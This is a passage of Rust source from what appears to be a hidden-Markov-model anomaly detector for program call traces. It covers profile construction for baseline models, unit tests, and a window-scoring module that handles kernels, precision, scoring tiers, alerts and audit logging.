    let stripped_traces: Vec<Vec<CallEvent>> = traces.iter().map(|t| strip_trace(t)).collect();

    let mut labels: Vec<String> = stripped_pctm
        .labels()
        .iter()
        .filter(|l| !l.is_virtual())
        .map(|l| l.name().to_string())
        .collect();
    for t in &stripped_traces {
        for e in t {
            if !labels.iter().any(|l| l.as_str() == &*e.name) {
                labels.push(e.name.to_string());
            }
        }
    }
    let alphabet = Alphabet::new(labels);

    let mut windows: Vec<Vec<usize>> = trace_windows(&stripped_traces, config.window)
        .iter()
        .map(|w| alphabet.encode_seq(w))
        .collect();
    let mut rng = StdRng::seed_from_u64(config.seed);
    windows.shuffle(&mut rng);
    let csds_len = ((windows.len() as f64) * config.csds_fraction).round() as usize;
    let (csds, train_set) = windows.split_at(csds_len.min(windows.len()));

    let init = init_from_pctm(&stripped_pctm, &alphabet, &config.init);
    let mut hmm = init.hmm;
    let train_report = train(&mut hmm, train_set, csds, &config.train);
    let (threshold, mean_normal_score) = select_threshold(
        &hmm,
        train_set,
        config.folds,
        config.threshold_quantile,
        config.threshold_margin,
    );

    let states_after = hmm.n_states();
    let profile = Profile {
        app_name: format!("{app_name} (CMarkov)"),
        alphabet,
        hmm,
        window: config.window,
        threshold,
        // No caller tracking: the out-of-context flag can never fire.
        call_callers: BTreeMap::new(),
        // No data-flow analysis: no labeled outputs, no source connection.
        labeled_outputs: Vec::new(),
    };
    let report = BuildReport {
        total_windows: windows.len(),
        csds_windows: csds.len(),
        train_report,
        reduced: init.reduced,
        states_before: init.states_before,
        states_after,
        threshold,
        mean_normal_score,
    };
    (profile, report)
}

/// Builds a Rand-HMM profile: identical data handling, but the model is
/// initialized randomly instead of from the pCTM. `n_states` overrides the
/// hidden-state count (default: alphabet size) — at bash scale an
/// alphabet-sized random model is intractable to train, so experiments
/// match it to the clustered AD-PROM model instead.
pub fn build_rand_hmm(
    app_name: &str,
    analysis: &Analysis,
    traces: &[Vec<CallEvent>],
    config: &ConstructorConfig,
    seed: u64,
    n_states: Option<usize>,
) -> (Profile, BuildReport) {
    let mut labels = analysis.observation_labels();
    for t in traces {
        for e in t {
            if !labels.iter().any(|l| l.as_str() == &*e.name) {
                labels.push(e.name.to_string());
            }
        }
    }
    let alphabet = Alphabet::new(labels);

    let mut windows: Vec<Vec<usize>> = trace_windows(traces, config.window)
        .iter()
        .map(|w| alphabet.encode_seq(w))
        .collect();
    let mut rng = StdRng::seed_from_u64(config.seed);
    windows.shuffle(&mut rng);
    let csds_len = ((windows.len() as f64) * config.csds_fraction).round() as usize;
    let (csds, train_set) = windows.split_at(csds_len.min(windows.len()));

    let n = n_states.unwrap_or(alphabet.len()).max(1);
    let mut hmm = Hmm::random(n, alphabet.len(), seed);
    // No static prior: Rand-HMM is the trace-only baseline of [33].
    let rand_train = adprom_hmm::TrainConfig {
        prior_weight: 0.0,
        ..config.train
    };
    let train_report = train(&mut hmm, train_set, csds, &rand_train);
    let (threshold, mean_normal_score) = select_threshold(
        &hmm,
        train_set,
        config.folds,
        config.threshold_quantile,
        config.threshold_margin,
    );

    let states_after = hmm.n_states();
    let profile = Profile {
        app_name: format!("{app_name} (Rand-HMM)"),
        alphabet,
        hmm,
        window: config.window,
        threshold,
        call_callers: BTreeMap::new(),
        labeled_outputs: Vec::new(),
    };
    let report = BuildReport {
        total_windows: windows.len(),
        csds_windows: csds.len(),
        train_report,
        reduced: false,
        states_before: n,
        states_after,
        threshold,
        mean_normal_score,
    };
    (profile, report)
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn strip_label_handles_variants() {
        assert_eq!(strip_label("printf_Q6"), "printf");
        assert_eq!(strip_label("fwrite_Q123"), "fwrite");
        assert_eq!(strip_label("printf"), "printf");
        // Not a label suffix: _Q with non-digits stays.
        assert_eq!(strip_label("my_Query"), "my_Query");
        assert_eq!(strip_label("x_Q"), "x_Q");
    }

    #[test]
    fn strip_ctm_merges_mass() {
        let mut ctm = Ctm::new();
        ctm.add(CallLabel::Entry, CallLabel::Lib("printf_Q3".into()), 0.5);
        ctm.add(CallLabel::Entry, CallLabel::Lib("printf".into()), 0.5);
        ctm.add(CallLabel::Lib("printf_Q3".into()), CallLabel::Exit, 0.5);
        ctm.add(CallLabel::Lib("printf".into()), CallLabel::Exit, 0.5);
        let stripped = strip_ctm(&ctm);
        assert_eq!(
            stripped.get(&CallLabel::Entry, &CallLabel::Lib("printf".into())),
            1.0
        );
        assert_eq!(stripped.dim(), 3); // ε, ε', printf
                                       // Invariants survive merging.
        assert!((stripped.entry_row_sum() - 1.0).abs() < 1e-12);
        assert!((stripped.exit_col_sum() - 1.0).abs() < 1e-12);
    }
}
