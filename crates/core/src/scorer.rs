//! Layer 1 of the detection stack: the kernel-agnostic window scorer.
//!
//! [`WindowScorer`] owns everything needed to turn call windows into
//! [`Alert`]s — the `Arc`-shared [`Profile`], the resolved scoring kernel
//! (dense / sparse CSR / beam), the detection threshold, metric handles,
//! and an optional audit log. [`DetectionEngine`](crate::detect::DetectionEngine),
//! [`OnlineDetector`](crate::detect::OnlineDetector), and
//! [`BatchDetector`](crate::parallel::BatchDetector) are thin shells over
//! it: every forward pass, every [`Flag::classify`] decision, and every
//! metrics/audit observation in the crate funnels through this one type,
//! so the three paths cannot drift apart.
//!
//! [`SessionScorer`] is the streaming counterpart: the per-session state a
//! multiplexing runtime keeps while events arrive one at a time. It
//! reproduces the batch scanners event-for-event — exact mode emits the
//! same π-anchored window alerts as [`WindowScorer::scan`], incremental
//! mode the same conditional [`SlidingState`] alerts as
//! [`WindowScorer::scan_incremental`] — so de-interleaving a stream and
//! scanning each session's trace in isolation is bit-identical to feeding
//! the interleaved stream through per-session `SessionScorer`s.

use crate::detect::{Alert, Flag, KernelConfig, KernelState};
use crate::profile::Profile;
use crate::telemetry::{audit_record_from_alert, DetectMetrics};
use adprom_hmm::{
    forward_beam, log_likelihood, log_likelihood_sparse,
    score_windows_batch as sparse_windows_batch, step_scores, step_scores_sparse, BatchScores,
    BeamConfig, F32Kernel, Precision, SlidingState, SlidingStats, StepScores,
};
use adprom_obs::{AuditLog, DeviantTransition, ForensicReport, Registry, WindowTrace};
use adprom_trace::CallEvent;
use serde::{Deserialize, Serialize};
use std::collections::VecDeque;
use std::fmt;
use std::sync::Arc;
use std::time::Instant;

/// How windows are scored.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Default)]
pub enum ScoringMode {
    /// A full scaled-forward pass per window (exactly
    /// [`WindowScorer::scan`]): output is byte-identical to the serial
    /// engine loop.
    #[default]
    ExactWindows,
    /// Incremental [`SlidingState`] scoring: one O(N²) update per event.
    /// Deterministic, but windows are scored conditionally on session
    /// history (see [`adprom_hmm::sliding`]).
    Incremental,
}

/// Knobs of the per-session flight recorder (see
/// [`SessionScorer::with_forensics`]). Defaults keep reports small enough
/// to ride every audit record while still showing the score trajectory
/// into an alarm.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub struct ForensicsConfig {
    /// Bounded ring of recent window traces kept per session — the
    /// delta-vs-threshold series a [`ForensicReport`] carries (values
    /// below 1 behave as 1: the alerting window itself is always kept).
    pub flight_capacity: usize,
    /// Most-deviant steps reported per alarmed window (values below 1
    /// behave as 1).
    pub top_k: usize,
}

impl Default for ForensicsConfig {
    fn default() -> ForensicsConfig {
        ForensicsConfig {
            flight_capacity: 8,
            top_k: 5,
        }
    }
}

/// Unified kernel reporting: which kernel was asked for, which is actually
/// scoring, and why they differ (CSR validation refusing a corrupt model).
/// One struct serves reports, metrics, health reasons, and the
/// `bench_detect` JSON — replacing the old `kernel_label()` /
/// `kernel_fallback()` split.
#[derive(Debug, Clone, PartialEq, Eq, Serialize, Deserialize)]
pub struct KernelStatus {
    /// The kernel the caller configured (`dense`, `sparse`, `beam`).
    pub requested: String,
    /// The kernel actually scoring windows. Differs from `requested` only
    /// when validation forced a downgrade — and then it is always `dense`.
    pub effective: String,
    /// Why `effective != requested`, when it is (`None` while the
    /// requested kernel is in force).
    pub fallback_reason: Option<String>,
    /// Scoring precision in force: `f64`, or `f32-verified` when the
    /// guard-banded f32 fast path is scoring (sparse kernels only — dense
    /// and beam kernels transparently stay `f64`, see
    /// [`WindowScorer::with_precision`]).
    pub precision: String,
    /// Widest window-batch the scorer's batched paths hand the kernel in
    /// one pass; `1` means windows are scored one at a time.
    pub batch_width: u32,
    /// Cumulative beam-pruning score-error bound in integral micro-nats
    /// (`0` when no pruning ever ran). Session reports stamp the owning
    /// session's [`SlidingState::gap_bound`] here at close, so pruned-tier
    /// verdicts carry their score-bound provenance.
    pub gap_bound_micronats: i64,
}

impl Default for KernelStatus {
    fn default() -> KernelStatus {
        KernelStatus::in_force("dense")
    }
}

impl KernelStatus {
    /// The requested kernel is the one scoring.
    pub fn in_force(label: &str) -> KernelStatus {
        KernelStatus {
            requested: label.to_string(),
            effective: label.to_string(),
            fallback_reason: None,
            precision: "f64".to_string(),
            batch_width: 1,
            gap_bound_micronats: 0,
        }
    }

    /// The requested kernel was refused; `effective` (dense) scores
    /// instead, for `reason`.
    pub fn fallen_back(requested: &str, effective: &str, reason: String) -> KernelStatus {
        KernelStatus {
            requested: requested.to_string(),
            effective: effective.to_string(),
            fallback_reason: Some(reason),
            precision: "f64".to_string(),
            batch_width: 1,
            gap_bound_micronats: 0,
        }
    }

    /// True when the effective kernel differs from the requested one.
    pub fn fell_back(&self) -> bool {
        self.fallback_reason.is_some()
    }
}

/// The scoring tier the risk-budget scheduler holds a live session at
/// while the monitor is overloaded (see
/// [`OverloadConfig`](crate::runtime::OverloadConfig)). Ordered by
/// fidelity — `SpotCheck < BeamPruned < Full` — so the starvation floor
/// "never below tier X" is an `Ord` comparison.
///
/// Every tier keeps the sliding recurrence exact enough to be *sound*:
/// flags under the two degraded tiers are classified on the score's
/// gap-bound lower bound, so a window whose unconstrained verdict is an
/// alarm still alarms (the degraded tiers can over-alarm, never
/// under-alarm).
#[derive(Debug, Clone, Copy, PartialEq, Eq, PartialOrd, Ord, Serialize, Deserialize, Default)]
pub enum ScoringTier {
    /// Beam-pruned pushes, and only every k-th window's verdict is
    /// emitted; skipped windows carry the last verdict forward and are
    /// skipped only when provably Normal (lower-bound score at or above
    /// threshold, no out-of-context call in the window).
    SpotCheck,
    /// Beam-pruned sliding pushes ([`SlidingState::with_beam`]); every
    /// window emits, flags classified on `score − gap_bound()`. A score
    /// within `gap_bound()` of the threshold escalates the session back
    /// to [`ScoringTier::Full`] — the sliding-window mirror of the f32
    /// guard-band rescore.
    BeamPruned,
    /// The unconstrained baseline: exact incremental pushes, every window
    /// emitted. Sessions start here and alarmed sessions are pinned here.
    #[default]
    Full,
}

impl ScoringTier {
    /// Short label used by metrics, audit records, and bench JSON:
    /// `"spot"`, `"beam"`, or `"full"`.
    pub fn label(&self) -> &'static str {
        match self {
            ScoringTier::SpotCheck => "spot",
            ScoringTier::BeamPruned => "beam",
            ScoringTier::Full => "full",
        }
    }
}

impl fmt::Display for ScoringTier {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        f.write_str(self.label())
    }
}

/// Per-alarm tier provenance recorded by a tier-armed [`SessionScorer`]:
/// the tier the window was scored under, the escalation it triggered (if
/// any), and the gap bound in force — one stamp per emitted alarm, in
/// alarm order, drained alongside forensics at commit.
#[derive(Debug, Clone)]
pub(crate) struct TierStamp {
    /// Tier the alarming window was scored under.
    pub(crate) tier: ScoringTier,
    /// Why the alarm escalated the session back to full scoring, when it
    /// did.
    pub(crate) escalation: Option<String>,
    /// The cumulative beam gap bound at emission (nats; `0.0` when the
    /// session never pruned).
    pub(crate) gap_bound: f64,
}

/// Lane cap for the internally batched scoring paths ([`WindowScorer::scan`],
/// [`SessionScorer::push_facts`] in exact mode): window batches are chunked
/// to this many lanes so the kernel's lane-major scratch
/// (`2 × n_states × lanes` values) stays L1/L2-resident for paper-scale
/// models while still amortizing each pass over the transition structure.
pub(crate) const MAX_BATCH_LANES: usize = 32;

/// Human-readable explanation for an alert, from the window facts that
/// decided its flag — `(name, caller)` of the first out-of-context event
/// and the first DDG-labeled call name. Every scoring path shares this
/// one function, so alert wording is identical everywhere.
pub(crate) fn alert_detail(flag: Flag, ooc: Option<(&str, &str)>, leak: Option<&str>) -> String {
    match flag {
        Flag::OutOfContext => {
            let (name, caller) = ooc.expect("flag requires an out-of-context event");
            format!("call `{name}` issued by `{caller}`, which never issued it in training")
        }
        Flag::DataLeak => {
            let leak = leak.expect("flag requires a labeled output");
            format!(
                "anomalous sequence contains labeled output `{leak}` \
                 (block {}): targeted data from the DB reached an output statement",
                leak.rsplit("_Q").next().unwrap_or("?")
            )
        }
        Flag::Anomalous => "sequence probability below threshold".to_string(),
        Flag::Normal => String::new(),
    }
}

/// The single scoring core: profile + kernel + threshold + observation
/// funnel. Cheap to clone — the profile, the CSR decomposition, and every
/// metric handle are shared, so per-session or per-worker clones cost a
/// handful of `Arc` bumps.
#[derive(Debug, Clone)]
pub struct WindowScorer {
    profile: Arc<Profile>,
    /// Active threshold (defaults to the profile's).
    threshold: f64,
    /// Scoring kernel resolved against the profile (dense by default).
    kernel: KernelState,
    /// Requested/effective kernel and the downgrade reason, if any.
    status: KernelStatus,
    /// Scoring precision policy (pure f64 by default).
    precision: Precision,
    /// The f32 mirror of the sparse kernel, built only while
    /// [`Precision::F32Verified`] is in force over a sparse kernel.
    fast: Option<Arc<F32Kernel>>,
    /// Metric handles (no-ops unless a registry installed live ones).
    metrics: DetectMetrics,
    /// Audit log for non-Normal detections, if any. Paths that need
    /// deterministic sequence numbers under parallelism (the batch
    /// detector, the monitor runtime) leave this unset and audit
    /// post-hoc in input order instead.
    audit: Option<Arc<AuditLog>>,
}

impl WindowScorer {
    /// Creates a scorer over a shared profile. Dense kernel,
    /// instrumentation disabled.
    pub fn new(profile: Arc<Profile>) -> WindowScorer {
        let threshold = profile.threshold;
        WindowScorer {
            profile,
            threshold,
            kernel: KernelState::Dense,
            status: KernelStatus::default(),
            precision: Precision::F64,
            fast: None,
            metrics: DetectMetrics::disabled(),
            audit: None,
        }
    }

    /// Selects the scoring kernel, building the CSR decomposition from the
    /// profile when `config` needs one (unvalidated — the trusted-profile
    /// path).
    pub fn with_kernel(mut self, config: KernelConfig) -> WindowScorer {
        self.kernel = KernelState::build(config, &self.profile);
        self.status = KernelStatus::in_force(config.label());
        self.rebuild_fast();
        self
    }

    /// Selects the scoring kernel with CSR validation: a profile whose
    /// model fails validation (non-finite entries, rows drifted from
    /// stochasticity) degrades to the dense kernel instead of scoring
    /// through a corrupt decomposition. [`WindowScorer::status`] carries
    /// the downgrade reason; since the sparse kernel was never built,
    /// degraded output is bit-identical to a dense-kernel run.
    pub fn with_kernel_validated(mut self, config: KernelConfig) -> WindowScorer {
        match KernelState::build_validated(config, &self.profile) {
            Ok(kernel) => {
                self.kernel = kernel;
                self.status = KernelStatus::in_force(config.label());
            }
            Err(reason) => {
                self.kernel = KernelState::Dense;
                self.status = KernelStatus::fallen_back(
                    config.label(),
                    "dense",
                    format!(
                        "{} kernel refused by CSR validation, using dense: {reason}",
                        config.label()
                    ),
                );
            }
        }
        self.rebuild_fast();
        self
    }

    /// Installs an already-resolved kernel with its status — how a
    /// registry epoch shares one CSR matrix across every scorer built
    /// from it.
    pub(crate) fn with_kernel_state(
        mut self,
        kernel: KernelState,
        status: KernelStatus,
    ) -> WindowScorer {
        self.kernel = kernel;
        self.status = status;
        self.rebuild_fast();
        self
    }

    /// Selects the scoring precision. [`Precision::F32Verified`] arms the
    /// f32 fast path over sparse kernels: windows score in f32, and any
    /// window whose f32 score lands within `guard_band` nats of the
    /// threshold — or comes out non-finite — is rescored in f64, so the
    /// emitted flags match the pure-f64 path whenever the true f32↔f64
    /// score gap stays under the band (measured ≈ 1e-4 nats on
    /// paper-scale profiles, against a 0.25-nat default band; the
    /// precision proptests and the `bench_detect --simd` `flags_match_f64`
    /// record pin this). Dense and beam kernels have no f32 mirror — beam
    /// pruning decisions in f32 could diverge unboundedly — and
    /// transparently keep scoring in f64, which
    /// [`KernelStatus::precision`] reports.
    pub fn with_precision(mut self, precision: Precision) -> WindowScorer {
        self.precision = precision;
        self.rebuild_fast();
        self
    }

    /// (Re)derives the f32 fast kernel and the status's precision /
    /// batch-width report from the current kernel + precision pair.
    /// Called by every builder that changes either, so builder order
    /// doesn't matter.
    fn rebuild_fast(&mut self) {
        self.fast = match (self.precision, &self.kernel) {
            (Precision::F32Verified { .. }, KernelState::Sparse(sp)) => {
                Some(Arc::new(F32Kernel::from_sparse(&self.profile.hmm, sp)))
            }
            _ => None,
        };
        self.status.precision = if self.fast.is_some() {
            self.precision.label()
        } else {
            Precision::F64.label()
        }
        .to_string();
        self.status.batch_width = match &self.kernel {
            KernelState::Sparse(_) => MAX_BATCH_LANES as u32,
            _ => 1,
        };
    }

    /// Registers metric handles against `registry`.
    pub fn with_registry(self, registry: &Registry) -> WindowScorer {
        self.with_metrics(DetectMetrics::from_registry(registry))
    }

    /// Installs pre-fetched metric handles.
    pub fn with_metrics(mut self, metrics: DetectMetrics) -> WindowScorer {
        self.metrics = metrics;
        self
    }

    /// Routes every non-Normal detection through
    /// [`WindowScorer::observe`] to `audit`.
    pub fn with_audit(mut self, audit: Arc<AuditLog>) -> WindowScorer {
        self.audit = Some(audit);
        self
    }

    /// Overrides the detection threshold.
    pub fn set_threshold(&mut self, threshold: f64) {
        self.threshold = threshold;
    }

    /// The active threshold.
    pub fn threshold(&self) -> f64 {
        self.threshold
    }

    /// The shared profile.
    pub fn profile(&self) -> &Arc<Profile> {
        &self.profile
    }

    /// Requested/effective kernel and the downgrade reason, if any.
    pub fn status(&self) -> &KernelStatus {
        &self.status
    }

    /// The scoring precision policy in force.
    pub fn precision(&self) -> Precision {
        self.precision
    }

    /// The resolved kernel (shared CSR handle).
    pub(crate) fn kernel(&self) -> &KernelState {
        &self.kernel
    }

    /// The metric handles in force.
    pub(crate) fn metrics(&self) -> &DetectMetrics {
        &self.metrics
    }

    /// Digests one event against the profile — encoding, out-of-context
    /// and labeled-output facts, computed exactly once per event.
    pub(crate) fn digest(&self, event: &CallEvent) -> WindowEvent {
        let alphabet = &self.profile.alphabet;
        let ooc = self.profile.is_out_of_context(&event.name, &event.caller);
        let encoded = alphabet.encode(&event.name);
        // A name that mapped to `<unk>` without literally being `<unk>`
        // is out-of-vocabulary: keep it so alerts show the real call.
        let name = (encoded == alphabet.unknown() && &*event.name != alphabet.decode(encoded))
            .then(|| Arc::clone(&event.name));
        WindowEvent {
            name,
            caller: if ooc {
                event.caller.to_string()
            } else {
                String::new()
            },
            encoded,
            ooc,
            labeled: event.name.contains("_Q"),
        }
    }

    /// `log P(window | λ)` for a window of call names, computed by the
    /// configured kernel. Beam-pruned scores are lower bounds; the worst
    /// per-window gap feeds the `beam.gap_bound_micronats_max` gauge.
    pub fn score(&self, names: &[String]) -> f64 {
        let encoded = self.profile.alphabet.encode_seq(names);
        self.score_encoded(&encoded)
    }

    /// Scores `k` same-profile, same-length windows in one pass over the
    /// transition structure — the batch API. Scores are identical to
    /// calling [`WindowScorer::score`] once per window: the batched
    /// sparse kernel is bit-identical per lane at any batch width, and
    /// the f32-verified fast path is batch-width independent, so batching
    /// is purely a cache-reuse optimization. Windows of mixed lengths
    /// must be scored individually (the kernel asserts equal lengths).
    pub fn score_windows_batch(&self, windows: &[Vec<String>]) -> Vec<f64> {
        let encoded: Vec<Vec<usize>> = windows
            .iter()
            .map(|w| self.profile.alphabet.encode_seq(w))
            .collect();
        let lanes: Vec<&[usize]> = encoded.iter().map(Vec::as_slice).collect();
        self.score_batch_encoded(&lanes, false).scores
    }

    /// [`WindowScorer::score_windows_batch`] over already-encoded windows,
    /// optionally carrying each lane's per-step factors (the forensic
    /// path). Sparse kernels score all lanes in one pass — in f32 with
    /// guard-band f64 rescoring under [`Precision::F32Verified`]; dense
    /// and beam kernels score lane by lane through the scalar dispatch
    /// (beam pruning is stateful per window, and both keep their metric
    /// side effects), so every caller batches through this one entry
    /// point regardless of kernel.
    pub(crate) fn score_batch_encoded(
        &self,
        windows: &[&[usize]],
        want_steps: bool,
    ) -> BatchScores {
        if windows.is_empty() {
            return BatchScores {
                scores: Vec::new(),
                steps: want_steps.then(Vec::new),
            };
        }
        match &self.kernel {
            KernelState::Sparse(sp) => {
                self.metrics.batch_windows.add(windows.len() as u64);
                let (Precision::F32Verified { guard_band }, Some(fast)) =
                    (self.precision, &self.fast)
                else {
                    return sparse_windows_batch(&self.profile.hmm, sp, windows, want_steps);
                };
                let mut out = fast.score_windows_batch(windows, want_steps);
                let mut rescored = 0u64;
                for (lane, window) in windows.iter().enumerate() {
                    let s = out.scores[lane];
                    if s.is_finite() && (s - self.threshold).abs() > guard_band {
                        continue;
                    }
                    // Guard-band hit (or non-finite score): the f64 kernel
                    // decides this window, steps included.
                    rescored += 1;
                    if let Some(steps) = &mut out.steps {
                        let scored = step_scores_sparse(&self.profile.hmm, sp, window);
                        out.scores[lane] = scored.log_likelihood;
                        steps[lane] = scored.steps;
                    } else {
                        out.scores[lane] = log_likelihood_sparse(&self.profile.hmm, sp, window);
                    }
                }
                self.metrics
                    .f32_windows
                    .add(windows.len() as u64 - rescored);
                self.metrics.f32_rescored.add(rescored);
                out
            }
            _ => {
                let mut scores = Vec::with_capacity(windows.len());
                let mut steps = want_steps.then(|| Vec::with_capacity(windows.len()));
                for window in windows {
                    if let Some(steps) = &mut steps {
                        let scored = self.score_attributed_encoded(window);
                        scores.push(scored.log_likelihood);
                        steps.push(scored.steps);
                    } else {
                        scores.push(self.score_encoded(window));
                    }
                }
                BatchScores { scores, steps }
            }
        }
    }

    /// [`WindowScorer::score`] for an already-encoded window — trace
    /// scanners encode each trace once and score slices of it, so the
    /// per-window cost is only the forward recursion itself. Under
    /// [`Precision::F32Verified`] the sparse kernel's f32 mirror scores
    /// first; the per-lane f32 result is batch-width independent, so this
    /// scalar path stays bit-identical to the batched one.
    fn score_encoded(&self, encoded: &[usize]) -> f64 {
        if let (Precision::F32Verified { guard_band }, Some(fast), KernelState::Sparse(sp)) =
            (self.precision, &self.fast, &self.kernel)
        {
            let s = fast.score_windows_batch(&[encoded], false).scores[0];
            if s.is_finite() && (s - self.threshold).abs() > guard_band {
                self.metrics.f32_windows.inc();
                return s;
            }
            self.metrics.f32_rescored.inc();
            return log_likelihood_sparse(&self.profile.hmm, sp, encoded);
        }
        match &self.kernel {
            KernelState::Dense => log_likelihood(&self.profile.hmm, encoded),
            KernelState::Sparse(sp) => log_likelihood_sparse(&self.profile.hmm, sp, encoded),
            KernelState::Beam(sp, beam) => {
                let run = forward_beam(&self.profile.hmm, sp, encoded, beam);
                if run.pruned_states > 0 {
                    self.metrics.beam_windows_pruned.inc();
                }
                // The gauge is integral micro-nats; an infinite bound
                // (pruning starved the chain) saturates it.
                self.metrics
                    .beam_gap_bound_max
                    .record_max(gap_micronats(run.gap_bound));
                run.pass.log_likelihood
            }
        }
    }

    /// Kernel-matched per-step score attribution for one window of call
    /// names: `steps[t] = ln P(o_t | o_0..o_{t-1}, λ)`, the exact factors
    /// of the window's log-likelihood under the configured kernel. The
    /// factors sum (left to right) bitwise to
    /// [`WindowScorer::score`] of the same window, so an alert's deficit
    /// can be charged to individual call transitions without a second
    /// scoring model.
    pub fn attribution(&self, names: &[String]) -> StepScores {
        let encoded = self.profile.alphabet.encode_seq(names);
        self.attribution_encoded(&encoded)
    }

    /// [`WindowScorer::attribution`] for an already-encoded window, with
    /// no metric side effects — the diagnostic path.
    pub(crate) fn attribution_encoded(&self, encoded: &[usize]) -> StepScores {
        match &self.kernel {
            KernelState::Dense => step_scores(&self.profile.hmm, encoded),
            KernelState::Sparse(sp) => step_scores_sparse(&self.profile.hmm, sp, encoded),
            KernelState::Beam(sp, beam) => {
                let run = forward_beam(&self.profile.hmm, sp, encoded, beam);
                StepScores {
                    steps: run.step_log,
                    log_likelihood: run.pass.log_likelihood,
                }
            }
        }
    }

    /// The forensic *scoring* path: one forward pass that yields both the
    /// window's score and its per-step factors, with the same beam metric
    /// observations as [`WindowScorer::score`] — so a forensics-enabled
    /// session scores each window exactly once.
    pub(crate) fn score_attributed_encoded(&self, encoded: &[usize]) -> StepScores {
        if let (Precision::F32Verified { guard_band }, Some(fast), KernelState::Sparse(sp)) =
            (self.precision, &self.fast, &self.kernel)
        {
            let out = fast.score_windows_batch(&[encoded], true);
            let s = out.scores[0];
            if s.is_finite() && (s - self.threshold).abs() > guard_band {
                self.metrics.f32_windows.inc();
                return StepScores {
                    steps: out.steps.expect("steps requested").swap_remove(0),
                    log_likelihood: s,
                };
            }
            self.metrics.f32_rescored.inc();
            return step_scores_sparse(&self.profile.hmm, sp, encoded);
        }
        match &self.kernel {
            KernelState::Dense => step_scores(&self.profile.hmm, encoded),
            KernelState::Sparse(sp) => step_scores_sparse(&self.profile.hmm, sp, encoded),
            KernelState::Beam(sp, beam) => {
                let run = forward_beam(&self.profile.hmm, sp, encoded, beam);
                if run.pruned_states > 0 {
                    self.metrics.beam_windows_pruned.inc();
                }
                self.metrics
                    .beam_gap_bound_max
                    .record_max(gap_micronats(run.gap_bound));
                StepScores {
                    steps: run.step_log,
                    log_likelihood: run.pass.log_likelihood,
                }
            }
        }
    }

    /// Classifies one window of events, stamping `session` on any audit
    /// record it raises.
    pub fn classify(&self, events: &[CallEvent], session: &str) -> Alert {
        let names: Vec<String> = events.iter().map(|e| e.name.to_string()).collect();
        // Only read the clock when a live histogram will receive the
        // sample — disabled instrumentation must not cost two syscalls
        // per window.
        let timer = self.metrics.score_ns.is_enabled().then(Instant::now);
        let ll = self.score(&names);
        if let Some(start) = timer {
            self.metrics
                .score_ns
                .record(u64::try_from(start.elapsed().as_nanos()).unwrap_or(u64::MAX));
        }
        self.classify_scored(events, names, ll, session)
    }

    /// Classifies a window whose log-likelihood was computed externally —
    /// the hook for reusing the flag logic with [`SlidingState`] scores
    /// instead of a full per-window forward pass.
    pub fn classify_with_ll(
        &self,
        events: &[CallEvent],
        log_likelihood: f64,
        session: &str,
    ) -> Alert {
        let names: Vec<String> = events.iter().map(|e| e.name.to_string()).collect();
        self.classify_scored(events, names, log_likelihood, session)
    }

    fn classify_scored(
        &self,
        events: &[CallEvent],
        names: Vec<String>,
        ll: f64,
        session: &str,
    ) -> Alert {
        // Per-window facts first, then the shared precedence rule
        // ([`Flag::classify`]) decides the flag.
        let ooc = events
            .iter()
            .find(|e| self.profile.is_out_of_context(&e.name, &e.caller));
        let leak = names.iter().find(|n| n.contains("_Q"));
        let flag = Flag::classify(ll, self.threshold, leak.is_some(), ooc.is_some());
        let detail = alert_detail(
            flag,
            ooc.map(|e| (&*e.name, &*e.caller)),
            leak.map(String::as_str),
        );
        self.observe(
            Alert {
                flag,
                log_likelihood: ll,
                threshold: self.threshold,
                window: names,
                detail,
            },
            session,
        )
    }

    /// Feeds a finished alert through the instrumentation — the window
    /// counter, its flag-kind counter, and (for non-Normal alerts) the
    /// audit log — and returns it unchanged. Every classify path ends
    /// here.
    pub fn observe(&self, alert: Alert, session: &str) -> Alert {
        self.metrics.windows_scored.inc();
        self.metrics.flag_counter(alert.flag).inc();
        if alert.is_alarm() {
            // Attribute every flagged window to the kernel that scored it
            // — beam scores are approximate, so forensics must be able to
            // tell which path raised an alarm.
            match &self.kernel {
                KernelState::Dense => self.metrics.kernel_dense.inc(),
                KernelState::Sparse(_) => self.metrics.kernel_sparse.inc(),
                KernelState::Beam(..) => self.metrics.kernel_beam.inc(),
            }
            if let Some(audit) = &self.audit {
                audit.record(audit_record_from_alert(
                    &alert,
                    session,
                    &self.status.effective,
                ));
            }
        }
        alert
    }

    /// Scans a whole trace with sliding windows; returns one alert per
    /// window.
    ///
    /// Per-trace facts are computed once up front — the symbol encoding,
    /// out-of-context verdicts, and labeled-output (`_Q`) markers — so the
    /// per-window work is one forward recursion plus the flag decision.
    /// Alerts are identical to classifying each window independently.
    pub fn scan(&self, events: &[CallEvent], session: &str) -> Vec<Alert> {
        let n = self.profile.window;
        if events.is_empty() {
            return Vec::new();
        }
        if events.len() <= n {
            return vec![self.classify(events, session)];
        }
        let names: Vec<String> = events.iter().map(|e| e.name.to_string()).collect();
        let encoded = self.profile.alphabet.encode_seq(&names);
        let ooc: Vec<bool> = events
            .iter()
            .map(|e| self.profile.is_out_of_context(&e.name, &e.caller))
            .collect();
        let labeled: Vec<bool> = names.iter().map(|name| name.contains("_Q")).collect();
        let total = events.len() - n + 1;
        let mut alerts = Vec::with_capacity(total);
        // Windows go to the kernel in lane-capped batches: one pass over
        // the transition structure scores up to MAX_BATCH_LANES adjacent
        // windows (scores identical to scoring each alone — see
        // [`WindowScorer::score_windows_batch`]).
        let mut first = 0usize;
        while first < total {
            let k = MAX_BATCH_LANES.min(total - first);
            let lanes: Vec<&[usize]> = (first..first + k).map(|s| &encoded[s..s + n]).collect();
            let timer = self.metrics.score_ns.is_enabled().then(Instant::now);
            let scored = self.score_batch_encoded(&lanes, false);
            if let Some(t0) = timer {
                // One histogram sample per window (the pinned contract),
                // each carrying the batch's per-window share.
                let per = u64::try_from(t0.elapsed().as_nanos() / k as u128).unwrap_or(u64::MAX);
                for _ in 0..k {
                    self.metrics.score_ns.record(per);
                }
            }
            for (lane, ll) in scored.scores.into_iter().enumerate() {
                let (start, end) = (first + lane, first + lane + n);
                let ooc_event = (start..end).find(|&t| ooc[t]).map(|t| &events[t]);
                let leak_name = (start..end).find(|&t| labeled[t]).map(|t| &names[t]);
                let flag =
                    Flag::classify(ll, self.threshold, leak_name.is_some(), ooc_event.is_some());
                let detail = alert_detail(
                    flag,
                    ooc_event.map(|e| (&*e.name, &*e.caller)),
                    leak_name.map(String::as_str),
                );
                alerts.push(self.observe(
                    Alert {
                        flag,
